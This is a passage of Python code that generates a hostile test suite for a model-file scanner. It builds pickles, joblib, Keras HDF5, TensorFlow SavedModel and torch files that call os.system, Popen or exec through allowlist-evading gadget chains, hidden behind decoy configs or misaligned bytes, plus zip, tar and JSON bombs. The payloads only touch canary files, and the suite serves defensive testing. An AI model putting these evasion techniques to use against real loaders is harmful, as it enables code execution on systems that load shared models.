                "wrapper": "the Lambda nested inside a TimeDistributed wrapper's config, after a decoy config",
            }[how]
            add(ctx, cid, 3, rel, hides, checks=CHECK_DEFAULT_ONLY, naive={"loader": "keras", "member": None},
                requires=("keras", "h5py"))

    cid = "c3-savedmodel-with-assets-pickle"
    if have["tensorflow"]:
        import tensorflow as tf

        class Plain(tf.Module):
            @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32)])
            def serve(self, x):
                return {"y": x * 2.0}

        folder = ctx.out / cid / "model" / "1"
        m = Plain()
        tf.saved_model.save(m, str(folder), signatures={"serving_default": m.serve})
        (folder / "assets").mkdir(exist_ok=True)
        (folder / "assets" / "tokenizer.pkl").write_bytes(
            whole_pickle(p_call(p_global("posix", "system"), p_str(ctx.touch(cid)))))
        rel = f"{cid}/model.tar.gz"
        make_samples.tar_folder(ctx.out / cid / "model", ctx.out / rel)
        shutil.rmtree(ctx.out / cid / "model")
        add(ctx, cid, 3, rel, "a clean TF Serving SavedModel with assets/tokenizer.pkl naming posix.system",
            naive={"loader": "pickle", "member": "1/assets/tokenizer.pkl"}, requires=("tensorflow",))
    else:
        skip(ctx, cid, 3, "SavedModel + pickle asset", "tensorflow is not installed", ("tensorflow",))


def keras_h5(ctx: Ctx, cid: str, path: Path, how: str) -> None:
    """A legacy Keras HDF5 model with a Lambda whose bytecode creates the canary, behind a decoy config.

    The model is built and saved with a harmless Lambda (``x * 2``); the saved config's function is then replaced
    by the marshalled code of a lambda that creates the canary (that lambda is compiled, never called)."""
    import h5py
    import keras

    inner = keras.layers.Lambda(lambda x: x * 2.0, name="scale")
    layer = keras.layers.TimeDistributed(inner, name="steps") if how == "wrapper" else inner
    shape = (3, 4) if how == "wrapper" else (4,)
    model = keras.Sequential([keras.Input(shape), layer, keras.layers.Dense(2, name="out")])
    path.parent.mkdir(parents=True, exist_ok=True)
    model.save(str(path))

    canary = ctx.canary(cid)
    evil = eval(f"lambda x: (open({canary!r}, 'w').close(), x * 2.0)[1]")  # compiled here, never called
    code = base64.b64encode(marshal.dumps(evil.__code__)).decode("ascii")

    with h5py.File(path, "r") as f:
        raw = f.attrs["model_config"]
    config = json.loads(raw if isinstance(raw, str) else raw.decode())

    def patch(obj):
        if isinstance(obj, dict):
            if obj.get("class_name") == "Lambda":
                fn = obj["config"]["function"]
                if isinstance(fn, dict) and "config" in fn:
                    fn["config"]["code"] = code
                else:
                    obj["config"]["function"] = [code, None, None]
            for v in obj.values():
                patch(v)
        elif isinstance(obj, list):
            for v in obj:
                patch(v)

    patch(config)
    assert code in json.dumps(config)
    decoy = {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
        {"class_name": "InputLayer", "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"}},
        {"class_name": "Dense", "config": {"name": "out", "units": 2, "activation": "linear"}}]}}
    # Rewrite the file so that the decoy comes first: h5py allocates variable-length strings in the global heap
    # in the order they are written.
    tmp = path.with_suffix(".tmp.h5")
    with h5py.File(path, "r") as src, h5py.File(tmp, "w") as dst:
        if how in ("decoy-first", "wrapper"):
            dst.attrs["description"] = json.dumps(decoy)
            for k, v in src.attrs.items():
                if k != "model_config":
                    dst.attrs[k] = v
            dst.attrs["model_config"] = json.dumps(config)
        else:  # fixed-length bytes: h5py stores numpy bytes_ inline in the attribute message
            grp = dst.create_group("metadata")
            grp.attrs["model_config"] = json.dumps(decoy)
            for k, v in src.attrs.items():
                if k != "model_config":
                    dst.attrs[k] = v
            dst.attrs.create("model_config", np.bytes_(json.dumps(config).encode()))
        for k in src.keys():
            src.copy(src[k], dst, name=k)
    os.replace(tmp, path)


# --------------------------------------------------------------------------------------------------------------
# Class 4: TensorFlow graphs that touch files.

def class4(ctx: Ctx, have: dict) -> None:
    ids = ["c4-tf1-main-op", "c4-tf1-main-op-in-function", "c4-tf2-resource-initializer",
           "c4-signature-write-file", "c4-signature-print-to-file"]
    if not have["tensorflow"]:
        for c in ids:
            skip(ctx, c, 4, "TensorFlow graph", "tensorflow is not installed", ("tensorflow",))
        return
    import tensorflow as tf

    rows = ctx.out / "rows-4.csv"
    rows.write_text("1,2,3,4\n0.5,0.1,0.2,0.3\n")
    checks = CHECK_DEFAULT_ONLY

    def tf1(cid: str, wrap_in_function: bool) -> None:
        folder = ctx.out / cid / "model" / "1"
        g = tf.Graph()
        with g.as_default():
            x = tf.compat.v1.placeholder(tf.float32, [None, 4], name="x")
            y = tf.identity(x * 2.0, name="y")
            if wrap_in_function:
                @tf.function
                def warm_up():
                    tf.io.write_file(ctx.canary(cid), "written by main_op")
                    return tf.constant(0)

                op = tf.group(warm_up(), name="warm_up")
            else:
                op = tf.group(tf.io.write_file(ctx.canary(cid), "written by main_op"), name="init_all_tables")
            with tf.compat.v1.Session(graph=g) as sess:
                builder = tf.compat.v1.saved_model.Builder(str(folder))
                sig = tf.compat.v1.saved_model.predict_signature_def({"x": x}, {"y": y})
                builder.add_meta_graph_and_variables(sess, ["serve"], signature_def_map={"serving_default": sig},
                                                     main_op=op)
                builder.save()

    def pack(cid: str) -> str:
        rel = f"{cid}/model.tar.gz"
        make_samples.tar_folder(ctx.out / cid / "model", ctx.out / rel)
        shutil.rmtree(ctx.out / cid / "model")
        return rel

    cid = ids[0]
    tf1(cid, False)
    add(ctx, cid, 4, pack(cid), "a TF1 SavedModel whose main_op (run at load) is a WriteFile of the canary",
        checks=checks, naive={"loader": "tf", "member": "1"}, requires=("tensorflow",))
    cid = ids[1]
    tf1(cid, True)
    add(ctx, cid, 4, pack(cid), "a TF1 SavedModel whose main_op calls a library function (PartitionedCall) "
        "holding the WriteFile", checks=checks, naive={"loader": "tf", "member": "1"}, requires=("tensorflow",))

    cid = ids[2]
    canary = ctx.canary(cid)

    class Vocabulary(tf.saved_model.experimental.TrackableResource):
        def _create_resource(self):
            return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[], shared_name="")

        def _initialize(self):
            return tf.io.write_file(canary, "written by a restored resource initializer")

    class WithResource(tf.Module):
        def __init__(self):
            super().__init__()
            self.vocab = Vocabulary()

        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32)])
        def serve(self, x):
            return {"y": x * 2.0}

    m = WithResource()
    tf.saved_model.save(m, str(ctx.out / cid / "model" / "1"), signatures={"serving_default": m.serve})
    add(ctx, cid, 4, pack(cid), "a TF2 SavedModel whose restored resource's initializer function writes the canary",
        checks=checks, naive={"loader": "tf", "member": "1"}, requires=("tensorflow",))

    cid = ids[3]
    canary3 = ctx.canary(cid)

    class Writes(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32)])
        def serve(self, x):
            w = tf.io.write_file(canary3, tf.strings.as_string(tf.reduce_sum(x)))
            with tf.control_dependencies([w]):
                return {"y": tf.identity(x * 2.0)}

    m = Writes()
    tf.saved_model.save(m, str(ctx.out / cid / "model" / "1"), signatures={"serving_default": m.serve})
    add(ctx, cid, 4, pack(cid), "a WriteFile inside the serving signature (runs on every predict)", checks=checks,
        naive={"loader": "tf-signature", "member": "1"}, predict=str(rows.relative_to(ctx.out)),
        requires=("tensorflow",))

    cid = ids[4]
    canary4 = ctx.canary(cid)

    class Prints(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32)])
        def serve(self, x):
            p = tf.print("input", x, output_stream=f"file://{canary4}")
            with tf.control_dependencies([p]):
                return {"y": tf.identity(x * 2.0)}

    m = Prints()
    tf.saved_model.save(m, str(ctx.out / cid / "model" / "1"), signatures={"serving_default": m.serve})
    add(ctx, cid, 4, pack(cid), "a PrintV2 op with output_stream file://canary in the serving signature",
        checks=checks, naive={"loader": "tf-signature", "member": "1"}, predict=str(rows.relative_to(ctx.out)),
        requires=("tensorflow",))
    for c in ids:
        assert not os.path.exists(ctx.canary(c)), f"saving {c} wrote its canary"


# --------------------------------------------------------------------------------------------------------------
# Class 5: "dangerous calls" that trust=True must still refuse.

def class5(ctx: Ctx, have: dict) -> None:
    naive = {"loader": "joblib", "member": "model.joblib"}

    def build(cid: str, frag: bytes, hides: str, protocol: int = pickle.HIGHEST_PROTOCOL, **kw) -> None:
        model = with_hidden(ctx.logistic(), "_calibration", Raw(frag))
        rel = ctx.sklearn_tar(cid, joblib_bytes(model, protocol=protocol))
        add(ctx, cid, 5, rel, hides, naive=naive, **kw)

    cid = "c5-py2-builtin-exec-inst"
    build(cid, p_inst("__builtin__", "exec", p_str(ctx.create_code(cid))),
          "__builtin__.exec (Python 2 spelling) called by the INST opcode, which names it inline, in a protocol-2 "
          "joblib stream (where Python 3 maps __builtin__ to builtins)", protocol=2)

    cid = "c5-timeit-setup"
    build(cid, p_call(p_global("timeit", "timeit"), p_str("pass"), p_str(ctx.create_code(cid)),
                      p_global("time", "perf_counter"), p_int(1)),
          "timeit.timeit('pass', setup=<code>, timer=time.perf_counter, number=1) compiles and runs the setup")

    cid = "c5-dict-get-builtins-exec"
    exec_fn = p_call(p_stack_global("builtins", "dict.get"), p_stack_global("pandas", "__builtins__"), p_str("exec"))
    build(cid, exec_fn + p_tuple(p_str(ctx.create_code(cid))) + b"R",
          "builtins.dict.get(pandas.__builtins__, 'exec') returns exec, which is then called", api=True)

    cid = "c5-operator-attrgetter-module"
    system = p_call(p_global("_operator", "attrgetter"), p_str("system")) + p_tuple(
        p_global("genericpath", "os")) + b"R"
    build(cid, system + p_tuple(p_str(ctx.touch(cid))) + b"R",
          "_operator.attrgetter('system') applied to the os module reached as genericpath.os")

    cid = "c5-posixpath-os-walk"
    build(cid, p_call(p_stack_global("posixpath", "os.system"), p_str(ctx.touch(cid))),
          "posixpath + qualname 'os.system' (a module-attribute walk to os.system)")

    cid = "c5-functools-partial"
    part = p_call(p_global("_functools", "partial"), p_stack_global("glob", "os.system"), p_str(ctx.touch(cid)))
    build(cid, part + p_tuple() + b"R", "_functools.partial(glob.os.system, cmd) then called with no arguments")

    cid = "c5-copyreg-reconstructor-popen"
    popen = p_stack_global("asyncio.subprocess", "subprocess.Popen")
    build(cid, p_call(p_global("copyreg", "_reconstructor"), popen, popen,
                      p_list(p_str("touch"), p_str(ctx.canary(cid)))),
          "copyreg._reconstructor(Popen, Popen, argv) (an allowlisted rebuild function) runs Popen.__init__; Popen "
          "reached through asyncio.subprocess.subprocess", asynchronous=True)

    cid = "c5-copy-reg-reconstructor-py2"
    popen2 = p_global("subprocess", "Popen")
    build(cid, p_call(p_global("copy_reg", "_reconstructor"), popen2, popen2,
                      p_list(p_str("touch"), p_str(ctx.canary(cid)))),
          "copy_reg._reconstructor (Python 2 spelling, protocol-2 stream) given subprocess.Popen as cls and base",
          protocol=2, asynchronous=True)

    cid = "c5-torch-custom-class-and-system"
    if have["torch"]:
        import argparse as _argparse

        import torch

        net = torch.nn.Linear(4, 2)
        data = torch_save_bytes({"state_dict": net.state_dict(), "args": _argparse.Namespace(lr=0.1, epochs=3),
                                 "hook": Raw(p_call(p_global("posix", "system"), p_str(ctx.touch(cid))))})
        rel = f"{cid}/model.tar.gz"
        tar_gz(ctx.out / rel, {"model.pth": data})
        add(ctx, cid, 5, rel, "a torch checkpoint needing weights_only=False (argparse.Namespace, a class outside "
            "torch's allowlist) that also calls posix.system", naive={"loader": "torch", "member": "model.pth"},
            api=True, requires=("torch",))
    else:
        skip(ctx, cid, 5, "torch checkpoint", "torch is not installed", ("torch",))


# --------------------------------------------------------------------------------------------------------------
# Class 6: joblib tricks hiding nested pickles.

def class6(ctx: Ctx) -> None:
    naive = {"loader": "joblib", "member": "model.joblib"}

    cid = "c6-structured-dtype-object-field"
    arr = np.array([(Payload(os.system, ctx.touch(cid)), 1.0)], dtype=[("a", "O"), ("w", "<f8")])
    rel = ctx.sklearn_tar(cid, joblib_bytes(with_hidden(ctx.logistic(), "_sample_meta", arr)))
    add(ctx, cid, 6, rel, "an array with a structured dtype [('a', 'O'), ('w', '<f8')]: joblib writes it as a nested "
        "pickle whose object field calls posix.system", naive=naive, api=True)

    cid = "c6-alignment-none-desync"
    marker = np.frombuffer(b"\x00HOSTILE-ALIGNMENT-MARKER", dtype=np.uint8).copy()
    frag = p_call(p_global("posix", "system"), p_str(ctx.touch(cid)))
    data = bytearray(joblib_bytes(with_hidden(ctx.logistic(), "_calibration", [marker, Raw(frag)]), aligned=False))
    start = data.find(b"HOSTILE-ALIGNMENT-MARKER") - 1
    array_end = start + len(marker)
    frag_at = data.find(frag)
    skip_len = frag_at + len(frag) - array_end - 1
    assert start > 0 and frag_at > array_end and 0 <= skip_len < 256
    data[start] = skip_len  # a reader that assumes an alignment byte skips exactly past the payload
    rel = ctx.sklearn_tar(cid, bytes(data))
    add(ctx, cid, 6, rel, "array wrappers with numpy_array_alignment_bytes=None; the first data byte is sized so "
        "that a reader expecting a padding byte jumps over the posix.system call that follows", naive=naive,
        api=True)

    cid = "c6-lz4-compressed"
    frag = p_call(p_global("posix", "system"), p_str(ctx.touch(cid)))
    raw = joblib_bytes(with_hidden(ctx.logistic(), "_calibration", Raw(frag)))
    rel = ctx.sklearn_tar(cid, lz4_frame_stored(raw))
    add(ctx, cid, 6, rel, "an lz4-frame-compressed joblib file (as joblib.dump(compress='lz4') writes) whose pickle "
        "calls posix.system", naive={"loader": "joblib", "member": "model.joblib", "needs": "lz4"})

    cid = "c6-xz-object-array"
    arr = np.array([Payload(os.system, ctx.touch(cid)), 2], dtype=object)
    raw = joblib_bytes(with_hidden(ctx.logistic(), "_classes_meta", arr))
    rel = ctx.sklearn_tar(cid, lzma.compress(raw, format=lzma.FORMAT_XZ))
    add(ctx, cid, 6, rel, "an xz-compressed joblib file whose object array (nested pickle) calls posix.system",
        naive=naive)

    cid = "c6-zlib-structured-subprocess"
    import subprocess

    arr = np.array([(1, Payload(subprocess.call, ["touch", ctx.canary(cid)]))], dtype=[("n", "<i4"), ("o", "O")])
    raw = joblib_bytes(with_hidden(ctx.logistic(), "_sample_meta", arr))
    rel = ctx.sklearn_tar(cid, zlib.compress(raw, 3))
    add(ctx, cid, 6, rel, "a zlib-compressed joblib file (joblib.dump(compress=3)) whose structured array's object "
        "field calls subprocess.call", naive=naive)

    cid = "c6-legacy-ndarraywrapper-side-npy"
    from joblib.numpy_pickle_compat import NDArrayWrapper

    side = io.BytesIO()
    np.save(side, np.array([Payload(os.system, ctx.touch(cid))], dtype=object), allow_pickle=True)
    wrapper = NDArrayWrapper("model.joblib_01.npy", np.ndarray, allow_mmap=False)
    raw = joblib_bytes(with_hidden(ctx.logistic(), "_feature_meta", wrapper))
    rel = ctx.sklearn_tar(cid, raw, extra={"model.joblib_01.npy": side.getvalue()})
    add(ctx, cid, 6, rel, "a joblib < 0.10 NDArrayWrapper naming a side .npy member; joblib reads it with "
        "numpy.load(allow_pickle=True), an object array calling posix.system",
        naive={"loader": "joblib", "member": "model.joblib"})


# --------------------------------------------------------------------------------------------------------------
# Class 7: unbounded work (resource cases).

def class7(ctx: Ctx) -> None:
    # inspect may list a bomb without expanding it (exit 0) or refuse it (2), within the limits; load must refuse
    refuse = {"inspect": "no-crash", "load": "refuse", "load_trust": None}
    clean_model = joblib_bytes(ctx.logistic())

    cid = "c7-repr-bomb-pickle"
    body = bytearray(b"]q\x00")  # EMPTY_LIST, BINPUT 0
    while len(body) + 9 + 3 <= 336 - 10:
        body += b"](h\x00h\x00eq\x00"  # a new list holding the previous one twice (memo GET doubling)
    levels = len(body) // 9
    while len(body) + 2 + 3 <= 336:
        body += b"2\x86"  # DUP, TUPLE2: doubling again on the stack
        levels += 1
    data = b"\x80\x02" + bytes(body) + b"."
    assert len(data) <= 340
    rel = f"{cid}/model.pkl"
    (ctx.out / rel).parent.mkdir(parents=True, exist_ok=True)
    (ctx.out / rel).write_bytes(data)
    add(ctx, cid, 7, rel, f"a {len(data)}-byte pickle of lists/tuples sharing children: 2**{levels} "
        "leaves if anything renders or copies it", checks=refuse, resource=True, canary=False)

    cid = "c7-repr-bomb-in-model"
    frag_body = bytearray(b"]")
    # no memo in a spliced fragment: doubling with DUP + TUPLE2 only
    frag_body += b"2\x86" * 150
    rel = ctx.sklearn_tar(cid, joblib_bytes(with_hidden(ctx.logistic(), "_tree", Raw(bytes(frag_body)))))
    add(ctx, cid, 7, rel, "a working LogisticRegression whose state holds 150 levels of (x, x) tuples (2**150 leaves "
        "as text); loading it is fine, rendering it is not",
        checks={"inspect": "no-crash", "load": "no-crash", "load_trust": None}, resource=True, canary=False)

    cid = "c7-nested-zip-bomb-in-tar"
    leaf_n = 16 * MIB - 1
    kernel = raw_deflate_zeros(leaf_n)
    crc = crc32_zeros(leaf_n)
    level1 = zip_bytes([(f"part-{i:02d}.params", kernel, None, crc, leaf_n) for i in range(16)])
    level2 = zip_bytes([deflated(f"shard-{i:02d}.zip", level1) for i in range(16)])
    rel = f"{cid}/model.tar"
    tar_gz(ctx.out / rel, {"model_algo-1": level2}, mode="w")
    add(ctx, cid, 7, rel, "a tar holding only model_algo-1 (the built-in algorithms' nested zip), here a zip of 16 "
        "zips of 16 x 16 MiB zero entries (4 GiB)", checks=refuse, resource=True, canary=False)

    cid = "c7-nested-zip-params-bomb"
    big = 2 * GIB
    inner = zip_bytes([deflated("model-symbol.json", json.dumps({"nodes": [], "arg_nodes": [], "heads": []}).encode()),
                       ("model-0000.params", raw_deflate_zeros(big), None, crc32_zeros(big), big)])
    rel = f"{cid}/model.tar"
    tar_gz(ctx.out / rel, {"model_algo-1": inner}, mode="w")
    add(ctx, cid, 7, rel, f"a {len(inner) // 1024} KB model_algo-1 zip inside a plain tar whose model-0000.params "
        "entry inflates to 2 GiB of zeros (the tar itself has no compression to ratio-check)", checks=refuse,
        resource=True, canary=False)

    cid = "c7-zlib-joblib-2gib"
    n = 32 * 64 * MIB
    prefix = b"\x80\x04\x8e" + struct.pack("<Q", n)  # PROTO 4, BINBYTES8 n
    c = zlib.compressobj(9)
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    seg = c.compress(bytes(64 * MIB)) + c.flush(zlib.Z_FULL_FLUSH)
    tail = c.compress(b".") + c.flush()
    # the Adler-32 trailer of the whole stream: prefix, n zero bytes, STOP (RFC 1950 section 8)
    a = zlib.adler32(prefix)
    s1, s2 = a & 0xFFFF, a >> 16
    s2 = (s2 + n * s1) % 65521
    adler = zlib.adler32(b".", (s2 << 16) | s1)
    blob = head + seg * 32 + tail[:-4] + struct.pack(">I", adler)
    rel = f"{cid}/model.tar"  # a plain tar: no outer compression whose ratio check could stop it first
    tar_gz(ctx.out / rel, {"model.joblib": blob, "code/inference.py": make_samples.SKLEARN_INFERENCE.encode()},
           mode="w")
    add(ctx, cid, 7, rel, f"a {len(blob) // 1024} KB zlib-compressed joblib member (in a plain tar) that inflates to "
        "a 2 GiB pickle",
        checks={"inspect": "refuse-or-flag", "load": "refuse", "load_trust": None}, resource=True, canary=False)

    cid = "c7-gnu-longname-4mib"
    name = "a/" * (2 * MIB) + "model.joblib"
    rel = f"{cid}/model.tar"
    (ctx.out / rel).parent.mkdir(parents=True, exist_ok=True)
    (ctx.out / rel).write_bytes(tar_member_bytes(name, b"x") + tar_member_bytes("model.joblib", clean_model)
                                + b"\0" * 1024)
    add(ctx, cid, 7, rel, "a tar whose GNU long-name header (././@LongLink) holds a 4 MiB, 2-million-level path",
        checks=refuse, resource=True, canary=False)

    cid = "c7-sparse-10gib"
    real = 10 * GIB
    member = gnu_sparse_header("weights.bin", 512, real, [(real - 512, 512)]) + b"\x01" * 512
    tar = member + tar_member_bytes("model.joblib", clean_model) + tar_member_bytes(
        "code/inference.py", make_samples.SKLEARN_INFERENCE.encode()) + b"\0" * 1024
    rel = f"{cid}/model.tar.gz"
    (ctx.out / rel).parent.mkdir(parents=True, exist_ok=True)
    (ctx.out / rel).write_bytes(gzip.compress(tar, 9))
    add(ctx, cid, 7, rel, "a tar.gz with an old-GNU sparse member of 10 GiB real size (512 bytes stored) beside a "
        "working model", checks=refuse, resource=True, canary=False)

    cid = "c7-sparse-plain-tar"
    rel = f"{cid}/model.tar"
    (ctx.out / rel).parent.mkdir(parents=True, exist_ok=True)
    (ctx.out / rel).write_bytes(tar)
    add(ctx, cid, 7, rel, "the same sparse member in an uncompressed tar, so that no compression ratio can stop it: "
        "only counting the member's real size can", checks=refuse, resource=True, canary=False)

    cid = "c7-zip-small-entries-gibs"
    members = [stored("model.joblib", clean_model)]
    members += [(f"data/shard-{i:03d}.bin", kernel, None, crc, leaf_n) for i in range(160)]
    rel = f"{cid}/model.zip"
    (ctx.out / rel).parent.mkdir(parents=True, exist_ok=True)
    (ctx.out / rel).write_bytes(zip_bytes(members))
    add(ctx, cid, 7, rel, "a zip of a working model.joblib and 160 entries of 16 MiB - 1 zeros each (2.5 GiB)",
        checks=refuse, resource=True, canary=False)

    cid = "c7-zip-overlapping-entries"
    rel = f"{cid}/model.zip"
    (ctx.out / rel).parent.mkdir(parents=True, exist_ok=True)
    (ctx.out / rel).write_bytes(overlapping_zip(clean_model, 120, leaf_n))
    add(ctx, cid, 7, rel, "a zip whose 120 entries overlap (each quotes the next local header and shares one "
        "16 MiB kernel): 1.9 GiB of output from a few KB", checks=refuse, resource=True, canary=False)

    cid = "c7-zip-overlapping-low-ratio"
    rel = f"{cid}/model.zip"
    (ctx.out / rel).parent.mkdir(parents=True, exist_ok=True)
    kernel_plain = low_ratio_bytes(4 * MIB)
    (ctx.out / rel).write_bytes(overlapping_zip(clean_model, 5, kernel_plain))
    add(ctx, cid, 7, rel, "a zip whose 5 entries overlap, sharing one kernel that compresses only ~40:1, so that "
        "neither an entry nor the whole archive passes 250:1: only an overlap check refuses it", checks=refuse,
        resource=True, canary=False)


def low_ratio_bytes(n: int) -> bytes:
    """``n`` bytes that DEFLATE compresses about 40:1 (one pseudo-random byte in every 48), reproducibly."""
    rng = np.random.default_rng(9)
    data = np.zeros(n, dtype=np.uint8)
    data[::48] = rng.integers(1, 256, size=len(data[::48]), dtype=np.uint8)
    return data.tobytes()


def overlapping_zip(model: bytes, n: int, kernel_plain: int | bytes) -> bytes:
    """A zip of ``model.joblib`` and ``n`` overlapping entries sharing one kernel (zeros, or the given bytes)."""
    if isinstance(kernel_plain, int):
        kernel_size = kernel_plain
        kernel = raw_deflate_zeros(kernel_size)
        kernel_crc = crc32_zeros(kernel_size)
    else:
        kernel_size = len(kernel_plain)
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        kernel = c.compress(kernel_plain) + c.flush()
        kernel_crc = zlib.crc32(kernel_plain)
    names = [f"w{i:04d}.bin".encode() for i in range(n)]
    first = ZipEntry(b"model.joblib", 0, zlib.crc32(model), len(model), len(model), 0)
    head = zip_local_header(first) + model
    # build the chain backwards: entry i's data = stored block quoting header i+1, then entry i+1's data
    headers: list[bytes] = [b""] * n
    entries: list[ZipEntry] = [None] * n  # type: ignore[list-item]
    tail_data = kernel  # compressed data of entry i (quoted headers of the later entries + kernel)
    tail_plain_prefix = b""  # the uncompressed bytes before the kernel's zeros
    for i in range(n - 1, -1, -1):
        usize = len(tail_plain_prefix) + kernel_size
        crc = crc32_combine(zlib.crc32(tail_plain_prefix), kernel_crc, kernel_size)
        e = ZipEntry(names[i], 8, crc, len(tail_data), usize)
        entries[i] = e
        headers[i] = zip_local_header(e)
        if i:
            quote = b"\x00" + struct.pack("<HH", len(headers[i]), len(headers[i]) ^ 0xFFFF) + headers[i]
            tail_data = quote + tail_data
            tail_plain_prefix = headers[i] + tail_plain_prefix
    body = headers[0] + tail_data
    offset = len(head)
    for i in range(n):
        entries[i].offset = offset
        if i + 1 < n:
            offset += len(headers[i]) + 5  # header, then the 5-byte stored-block prefix quoting the next header
    out = head + body
    return out + zip_central([first] + entries, len(out))


# --------------------------------------------------------------------------------------------------------------
# Class 9: one sentence and exit status 2.

def class9(ctx: Ctx, have: dict) -> None:
    no_crash = {"inspect": "no-crash", "load": "refuse", "load_trust": None}
    depth = 100_000
    deep = "[" * depth + "]" * depth  # valid JSON, nested 100,000 deep
    deep_object = '{"a":' * depth + "1" + "}" * depth

    cid = "c9-hf-config-deep-json"
    rel = f"{cid}/model.tar.gz"
    tar_gz(ctx.out / rel, {"config.json": deep.encode(), "model.safetensors": safetensors_tiny(),
                           "tokenizer_config.json": b"{}"})
    add(ctx, cid, 9, rel, "a Hugging Face layout whose config.json is a list nested 100,000 deep", checks=no_crash,
        canary=False)

    cid = "c9-hf-config-unclosed"
    rel = f"{cid}/model.tar.gz"
    tar_gz(ctx.out / rel, {"config.json": b"[" * depth, "model.safetensors": safetensors_tiny()})
    add(ctx, cid, 9, rel, "a Hugging Face layout whose config.json is 100,000 '[' and nothing else",
        checks=no_crash, canary=False)

    cid = "c9-safetensors-deep-header"
    header = deep_object.encode()
    rel = f"{cid}/model.tar.gz"
    tar_gz(ctx.out / rel, {"config.json": json.dumps({"model_type": "bert", "architectures": ["BertModel"]}).encode(),
                           "model.safetensors": struct.pack("<Q", len(header)) + header})
    add(ctx, cid, 9, rel, "a model.safetensors whose JSON header is an object nested 100,000 deep",
        checks=no_crash, canary=False)

    cid = "c9-keras-zip-deep-config"
    kz = zip_bytes([stored("metadata.json", b'{"keras_version": "3.5.0"}'), stored("config.json", deep.encode()),
                    stored("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(100))])
    rel = f"{cid}/model.tar.gz"
    tar_gz(ctx.out / rel, {"model.keras": kz})
    add(ctx, cid, 9, rel, "a .keras zip whose config.json is a list nested 100,000 deep", checks=no_crash, canary=False)

    cid = "c9-xgboost-json-deep"
    rel = f"{cid}/model.tar.gz"
    tar_gz(ctx.out / rel, {"xgboost-model": ('{"learner":' * depth + "{}" + "}" * depth).encode()})
    add(ctx, cid, 9, rel, "an xgboost-model JSON of 100,000 nested 'learner' objects", checks=no_crash,
        canary=False)

    cid = "c9-pax-path-1mb"
    rel = f"{cid}/model.tar.gz"
    tar_gz(ctx.out / rel, {"x" * MIB + ".joblib": b"0", "model.joblib": joblib_bytes(ctx.logistic())})
    add(ctx, cid, 9, rel, "a tar.gz whose PAX header gives a member a 1 MiB name (errors must stay short)",
        checks=no_crash, canary=False)

    cid = "c9-zip-name-64k"
    rel = f"{cid}/model.zip"
    (ctx.out / rel).parent.mkdir(parents=True, exist_ok=True)
    (ctx.out / rel).write_bytes(zip_bytes([stored("model.joblib", joblib_bytes(ctx.logistic())),
                                           stored("n" * 65_000, b"0")]))
    add(ctx, cid, 9, rel, "a zip with a 65,000-character entry name", checks=no_crash, canary=False)

    cid = "c9-gnu-longname-deep-path"
    rel = f"{cid}/model.tar.gz"
    (ctx.out / rel).parent.mkdir(parents=True, exist_ok=True)
    (ctx.out / rel).write_bytes(gzip.compress(tar_member_bytes("d/" * 250_000 + "model.joblib", b"0")
                                              + tar_member_bytes("model.joblib", joblib_bytes(ctx.logistic()))
                                              + b"\0" * 1024))
    add(ctx, cid, 9, rel, "a GNU long name of 250,000 nested folders", checks=no_crash, canary=False)

    clean = make_samples.build_sklearn(ctx.out / "clean")
    clean_rel = str(clean.relative_to(ctx.out))
    predict_checks = {"inspect": None, "load": "refuse", "load_trust": None}
    inputs = {
        "c9-predict-invalid-utf8": ("rows.csv", b"0.1,0.2,0.3,0.4\n0.5,\xff\xfe,0.1,0.2\n",
                                    "CSV rows with invalid UTF-8"),
        "c9-predict-deep-json": ("rows.json", deep.encode(), "JSON rows nested 100,000 deep"),
        "c9-predict-unclosed-json": ("rows.json", b"[" * depth, "100,000 '[' and nothing else as JSON rows"),
        "c9-predict-nan-rows": ("rows.csv", b"nan,0.2,0.3,0.4\n0.5,0.1,0.1,0.2\n",
                                "a NaN row, which LogisticRegression rejects"),
        "c9-predict-folder": (None, None, "a folder given as the input file"),
    }
    for cid, (name, data, what) in inputs.items():
        target = ctx.out / cid / (name or "rows")
        target.parent.mkdir(parents=True, exist_ok=True)
        if data is None:
            target.mkdir()
        else:
            target.write_bytes(data)
        add(ctx, cid, 9, clean_rel, f"load --predict given {what}", checks=predict_checks,
            predict=str(target.relative_to(ctx.out)), canary=False)


def safetensors_tiny() -> bytes:
    header = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + struct.pack("<2f", 1.0, 2.0)


# --------------------------------------------------------------------------------------------------------------

def _importable(name: str) -> bool:
    import importlib.util

    try:
        return importlib.util.find_spec(name) is not None
    except (ImportError, ValueError):
        return False


def build(out: Path, canary_dir: Path, only: set[str] | None = None) -> list[dict]:
    out.mkdir(parents=True, exist_ok=True)
    canary_dir.mkdir(parents=True, exist_ok=True)
    if any(canary_dir.iterdir()):
        raise SystemExit(f"the canary folder {canary_dir} must be empty")
    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
    have = {m: _importable(m) for m in ("torch", "tensorflow", "keras", "h5py", "xgboost", "transformers")}
    ctx = Ctx(out, canary_dir)
    steps = [("1", lambda: class1(ctx)), ("2", lambda: class2(ctx)), ("3", lambda: class3(ctx, have)),
             ("4", lambda: class4(ctx, have)), ("5", lambda: class5(ctx, have)), ("6", lambda: class6(ctx)),
             ("7", lambda: class7(ctx)), ("9", lambda: class9(ctx, have))]
    for cls, step in steps:
        if only is None or cls in only:
            step()
    if only is None:
        built = [c["id"] for c in ctx.cases]
        assert sorted(built) == sorted(CASES) and len(set(built)) == len(built), "CASES is out of date"
    leftovers = sorted(p.name for p in canary_dir.iterdir())
    assert not leftovers, f"building the suite ran a payload: {leftovers}"
    manifest = {"schema": "artifact-tools.hostile/1", "canary_dir": str(canary_dir), "cases": ctx.cases}
    tmp = out / "manifest.json.part"
    tmp.write_text(json.dumps(manifest, indent=1))
    os.replace(tmp, out / "manifest.json")
    return ctx.cases


def main(argv: list[str] | None = None) -> int:
